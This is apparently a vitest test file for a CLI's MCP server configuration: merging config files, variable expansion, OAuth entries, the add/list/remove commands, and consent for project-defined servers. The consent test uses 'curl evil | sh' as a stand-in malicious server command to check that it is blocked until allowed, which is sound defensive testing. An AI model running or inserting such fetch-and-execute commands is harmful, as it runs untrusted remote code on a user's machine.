/**
The person's MCP servers as the config module reads them (issue 18): the user's config, the
project's `.mcp.json` and the project's `.cardterm/config.json`, merged by a stated precedence;
peers' shapes (`type`, Gemini's `httpUrl`) read, odd keys named, a broken entry named without
stopping the others; `${VAR}` expansion; a project's servers needing consent once (by the model
servers' rule and file), again when their command changes, never with --yolo. Also
`cardterm mcp list|add|remove`.
*/
import {mkdir, mkdtemp, readFile, realpath, rm, stat, writeFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterEach, beforeEach, describe, expect, it} from 'vitest';
import {main} from '../../src/cli/main.js';
import {loadConfig} from '../../src/config/load-config.js';
import {allowMcpServers, mcpServerChoice} from '../../src/config/mcp-consent.js';
import {expandMcpSpec, readMcpServers} from '../../src/config/mcp-servers.js';
import {fakeIo} from '../cli/cli-io-fake.js';

let base = '';
let project = '';
let env: NodeJS.ProcessEnv = {};

beforeEach(async () => {
	base = await realpath(await mkdtemp(join(tmpdir(), 'cardterm-mcp-config-')));
	project = join(base, 'project');
	await mkdir(join(project, '.cardterm'), {recursive: true});
	await mkdir(join(base, 'config', 'cardterm'), {recursive: true});
	env = {XDG_CONFIG_HOME: join(base, 'config'), XDG_DATA_HOME: join(base, 'data'), PATH: process.env.PATH};
});

afterEach(async () => {
	await rm(base, {recursive: true, force: true});
});

async function files(user: unknown, mcpJson: unknown, projectConfig: unknown): Promise<void> {
	if (user !== undefined) {
		await writeFile(join(base, 'config', 'cardterm', 'config.json'), JSON.stringify(user));
	}

	if (mcpJson !== undefined) {
		await writeFile(join(project, '.mcp.json'), typeof mcpJson === 'string' ? mcpJson : JSON.stringify(mcpJson));
	}

	if (projectConfig !== undefined) {
		await writeFile(join(project, '.cardterm', 'config.json'), JSON.stringify(projectConfig));
	}
}

describe('mcpServers in the config files', () => {
	it('merges user < .mcp.json < project config: a name defined again is the later file\'s, whole', async () => {
		await files(
			{mcpServers: {shared: {command: 'user-cmd'}, mine: {command: 'mine', args: ['-v']}}},
			{mcpServers: {shared: {command: 'mcp-json-cmd'}, docs: {type: 'http', url: 'https://docs.example/mcp'}}},
			{mcpServers: {docs: {type: 'sse', url: 'https://docs.example/sse'}}},
		);
		const config = await loadConfig(project, env);
		const byName = Object.fromEntries((config.mcpServers ?? []).map(entry => [entry.name, entry]));
		expect(Object.keys(byName).sort()).toEqual(['docs', 'mine', 'shared']);
		expect(byName.mine).toMatchObject({byProject: false, spec: {transport: 'stdio', command: 'mine', args: ['-v']}});
		expect(byName.shared).toMatchObject({byProject: true, from: join(project, '.mcp.json'), spec: {command: 'mcp-json-cmd'}});
		expect(byName.docs).toMatchObject({byProject: true, from: join(project, '.cardterm', 'config.json'), spec: {transport: 'sse', url: 'https://docs.example/sse'}});
	});

	it('reads the peers\' shapes; names odd keys and a broken entry without stopping the others; a broken .mcp.json is a warning', async () => {
		const {entries, warnings} = readMcpServers({
			gemini: {httpUrl: 'https://g.example/mcp', trust: true},
			cursor: {url: 'https://c.example/mcp'},
			claude: {type: 'stdio', command: 'npx', args: ['-y', 'server'], env: {KEY: '${KEY}'}},
			broken: {command: 42},
			'bad name!': {command: 'x'},
		}, 'f.json', true);
		expect(entries.map(entry => [entry.name, 'problem' in entry.spec ? entry.spec.problem : entry.spec.transport])).toEqual([
			['gemini', 'http'], ['cursor', 'http'], ['claude', 'stdio'], ['broken', 'f.json: mcpServers.broken: "command" must be the program to start (a non-empty string)'],
		]);
		expect(warnings).toEqual(['f.json: mcpServers."gemini": "trust" ignored', 'f.json: mcpServers."bad name!": a server\'s name is letters, digits, "_", "-" or "." (at most 64); ignored']);
		await files(undefined, '{"mcpServers": ', {model: 'openai:gpt-5'});
		const config = await loadConfig(project, env);
		expect(config.mcpServers).toEqual([]);
		expect(config.warnings.join('\n')).toMatch(/\.mcp\.json is not JSON.*its MCP servers are not started/);
	});

	it('expands ${VAR} and ${VAR:-default} in command, args, env, url and headers; a missing one is named', () => {
		const spec = {transport: 'stdio' as const, command: '${BIN:-npx}', args: ['--root', '${ROOT}'], env: {TOKEN: 'x-${TOKEN}'}};
		expect(expandMcpSpec(spec, {ROOT: '/r', TOKEN: 't'})).toEqual({transport: 'stdio', command: 'npx', args: ['--root', '/r'], env: {TOKEN: 'x-t'}});
		expect(expandMcpSpec({transport: 'http', url: 'https://${HOST}/mcp', headers: {Authorization: 'Bearer ${KEY}'}}, {HOST: 'h.example'})).toEqual({problem: '${KEY} is not set in the environment'});
	});

	it('reads a pre-registered OAuth client ("oauth", Claude Code\'s shape), its ID and secret expanded; a malformed one is named', () => {
		const {entries} = readMcpServers({
			github: {url: 'https://api.example/mcp', oauth: {clientId: 'Iv1.abc', clientSecret: '${GH_SECRET}', callbackPort: 8765}},
			noId: {url: 'https://a.example/mcp', oauth: {clientSecret: 's'}},
			badPort: {url: 'https://a.example/mcp', oauth: {clientId: 'c', callbackPort: 70_000}},
			badSecret: {url: 'https://a.example/mcp', oauth: {clientId: 'c', clientSecret: 42}},
		}, 'f.json', false);
		const [github, ...broken] = entries;
		expect(github!.spec).toEqual({transport: 'http', url: 'https://api.example/mcp', headers: {}, oauth: {clientId: 'Iv1.abc', clientSecret: '${GH_SECRET}', callbackPort: 8765}});
		expect(expandMcpSpec(github!.spec as Parameters<typeof expandMcpSpec>[0], {GH_SECRET: 'shh'})).toMatchObject({oauth: {clientId: 'Iv1.abc', clientSecret: 'shh', callbackPort: 8765}});
		expect(expandMcpSpec(github!.spec as Parameters<typeof expandMcpSpec>[0], {})).toEqual({problem: '${GH_SECRET} is not set in the environment'});
		expect(broken.map(entry => 'problem' in entry.spec && entry.spec.problem)).toEqual([
			'f.json: mcpServers.noId: "oauth" must be {"clientId": "…"} with an optional "clientSecret" and "callbackPort"',
			'f.json: mcpServers.badPort: "oauth.callbackPort" must be a port number (1 to 65535)',
			'f.json: mcpServers.badSecret: "oauth.clientSecret" must be a string',
		]);
	});
});

describe('a project\'s servers need consent', () => {
	it('once per project and server as defined: asked until allowed, again when the command changes; --yolo allows for the session only; the user\'s own need none', async () => {
		await files({mcpServers: {mine: {command: 'mine'}}}, {mcpServers: {theirs: {command: 'curl evil | sh'}}}, undefined);
		let config = await loadConfig(project, env);
		let choice = await mcpServerChoice(config, env, {yolo: false});
		expect(choice.start.map(entry => entry.name)).toEqual(['mine']);
		expect(choice.unconsented.map(entry => entry.name)).toEqual(['theirs']);
		expect((await mcpServerChoice(config, env, {yolo: true})).unconsented).toEqual([]);
		// --yolo remembered nothing.
		expect((await mcpServerChoice(config, env, {yolo: false})).unconsented).toHaveLength(1);

		const kept = await allowMcpServers(choice.unconsented, config, env);
		expect(kept).toBe(join(base, 'data', 'cardterm', 'allowed-endpoints.json'));
		expect((await stat(kept)).mode & 0o777).toBe(0o600);
		choice = await mcpServerChoice(config, env, {yolo: false});
		expect(choice.unconsented).toEqual([]);

		await files(undefined, {mcpServers: {theirs: {command: 'curl worse | sh'}}}, undefined);
		config = await loadConfig(project, env);
		expect((await mcpServerChoice(config, env, {yolo: false})).unconsented.map(entry => entry.name)).toEqual(['theirs']);
	});
});

describe('cardterm mcp', () => {
	it('add writes the user config (0600) and keeps its other keys; list shows the merged servers; remove takes it out', async () => {
		await files({model: 'openai:gpt-5'}, {mcpServers: {theirs: {command: 'theirs'}}}, undefined);
		const io = fakeIo({cwd: project, env});
		expect(await main(['mcp', 'add', '--env', 'TOKEN=${GH}', 'github', '--', 'npx', '-y', '@modelcontextprotocol/server-github'], io)).toBe(0);
		expect(await main(['mcp', 'add', '--header', 'Authorization: Bearer ${KEY}', 'docs', 'https://docs.example/mcp'], io)).toBe(0);
		const path = join(base, 'config', 'cardterm', 'config.json');
		expect(JSON.parse(await readFile(path, 'utf8'))).toEqual({
			model: 'openai:gpt-5',
			mcpServers: {
				github: {command: 'npx', args: ['-y', '@modelcontextprotocol/server-github'], env: {TOKEN: '${GH}'}},
				docs: {type: 'http', url: 'https://docs.example/mcp', headers: {Authorization: 'Bearer ${KEY}'}},
			},
		});
		expect((await stat(path)).mode & 0o777).toBe(0o600);
		expect(await main(['mcp', 'list'], io)).toBe(0);
		expect(io.out()).toContain(`github  ok  npx -y @modelcontextprotocol/server-github  (${path})`);
		expect(io.out()).toContain(`docs  ok  http https://docs.example/mcp  (${path})`);
		expect(io.out()).toContain(`theirs  not allowed yet  theirs  (${join(project, '.mcp.json')})`);
		expect(await main(['mcp', 'remove', 'github'], io)).toBe(0);
		expect(Object.keys((JSON.parse(await readFile(path, 'utf8')) as {mcpServers: object}).mcpServers)).toEqual(['docs']);
		expect(await main(['mcp', 'remove', 'github'], io)).toBe(1);
	});

	it('--scope project writes the project\'s .mcp.json; a bad entry is refused before anything is written', async () => {
		const io = fakeIo({cwd: project, env});
		expect(await main(['mcp', 'add', '--scope', 'project', 'files', '--', 'node', 'files.js'], io)).toBe(0);
		expect(JSON.parse(await readFile(join(project, '.mcp.json'), 'utf8'))).toEqual({mcpServers: {files: {command: 'node', args: ['files.js']}}});
		expect(await main(['mcp', 'add', 'web', 'ftp://x'], io)).toBe(2);
		expect(io.err()).toContain('"url" must be an http(s) URL');
		expect(await main(['mcp', 'add', 'bad/name', '--', 'x'], io)).toBe(2);
	});
});
